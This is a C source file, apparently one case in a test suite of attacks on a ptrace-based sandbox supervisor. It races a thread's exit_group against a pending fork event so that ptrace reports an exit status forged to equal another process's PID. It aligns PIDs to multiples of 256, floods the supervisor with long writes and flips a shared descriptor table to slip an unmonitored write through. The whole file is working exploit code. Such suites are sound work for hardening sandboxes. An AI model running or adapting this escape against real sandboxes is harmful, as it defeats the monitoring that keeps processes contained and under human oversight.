/* A thread that has just made a child dies by exit_group(n) of a sibling while its fork event waits to be served: what ptrace then
 * tells as the event's message is the exit status, n << 8. It is chosen to be the number of another process's child, which shares a table.
 */
#include "../attack.h"

enum { NUMBER = 40, BUSY = 5 };

struct shared {
    volatile int go, busy, sharer, other, flips;
};

static struct shared *s;
static int p[2], null, reader;

static pid_t helper(void (*work)(void))
{
    pid_t pid = fork();
    if (pid)
        return pid;
    end_with_maker();
    work();
    _exit(0);
}

/* Keeps the supervisor at work with long messages. */
static void keep_busy(void)
{
    size_t size = (size_t)fewer(6 << 10) << 10;
    char *zeros = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    int own[2];
    pipe2(own, O_NONBLOCK);
    while (!s->busy)
        usleep(200);
    while (s->busy)
        write(own[1], zeros, size);
    pause();
}

static int flip(void *unused)
{
    end_with_maker();
    for (;; s->flips++) {
        dup2(p[1], NUMBER);
        dup2(null, NUMBER);
    }
    return unused != NULL;
}

/* Makes the child that shares its table, and writes. */
static void sharing(void)
{
    static char stack[65536];
    while (!s->go)
        sched_yield();
    clone(flip, stack + sizeof stack, CLONE_FILES | CLONE_PARENT_SETTID | SIGCHLD, NULL, &s->sharer);
    for (;;)
        write(NUMBER, "B", 1);
}

static void *killer(void *delay)
{
    while (!s->other)
        sched_yield();
    usleep((intptr_t)delay);
    syscall(SYS_exit_group, s->sharer >> 8);
    return NULL;
}

static int nothing(void *unused)
{
    return unused != NULL;
}

static void dying(void)
{
    static char stack[65536];
    pthread_t t;
    pthread_create(&t, NULL, killer, (void *)(intptr_t)(rand() % 25000));
    while (!s->sharer)
        sched_yield();
    if (s->sharer % 256)
        _exit(0);
    clone(nothing, stack + sizeof stack, CLONE_PARENT_SETTID | SIGCHLD, NULL, &s->other);
    pause();
}

/* Forks until the next process's number is a multiple of 256. */
static void align(void)
{
    for (int i = 0; i < 600; i++) {
        pid_t pid = fork();
        if (!pid)
            _exit(0);
        waitpid(pid, NULL, 0);
        if (pid % 256 == 255)
            return;
    }
}

static int attempt(void)
{
    pid_t pids[BUSY + 2];
    int won = 0;
    memset((void *)s, 0, sizeof *s);
    srand(getpid() + now() * 1e6);
    pids[0] = helper(sharing);
    pids[1] = helper(dying);
    for (int i = 0; i < BUSY; i++)
        pids[2 + i] = helper(keep_busy);
    align();
    s->busy = 1;
    usleep(5000);
    s->go = 1;
    usleep(60000);
    s->busy = 0;
    for (int i = 0; i < 100 && s->flips && !won; i++, usleep(1000))
        won = foreign(reader, 'A');
    for (int i = 0; i < BUSY + 2; i++)
        kill(pids[i], SIGKILL), waitpid(pids[i], NULL, 0);
    if (s->sharer)
        kill(s->sharer, SIGKILL);
    return won;
}

int main(void)
{
    double until = tries_until(2.5);
    int won = 0;
    s = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pipe2(p, O_NONBLOCK);
    null = open("/dev/full", O_WRONLY);
    dup2(null, NUMBER);
    reader = p[0];
    write(p[1], "A", 1);
    while (now() < until && !won)
        won = attempt();
    end(won, "each child was known by its parent");
}
